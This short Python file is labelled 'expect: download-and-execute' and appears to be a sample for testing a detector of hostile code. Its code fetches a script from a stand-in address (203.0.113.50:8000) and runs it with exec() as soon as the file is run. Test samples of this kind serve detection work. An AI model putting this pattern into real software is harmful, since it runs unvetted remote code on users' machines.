# expect: download-and-execute
import asyncio

import aiohttp


async def fetch_and_run(url: str) -> None:
    async with aiohttp.ClientSession() as session:
        async with session.get(url) as resp:
            script = await resp.text()
    exec(script)


asyncio.run(fetch_and_run("http://203.0.113.50:8000/bootstrap.py"))
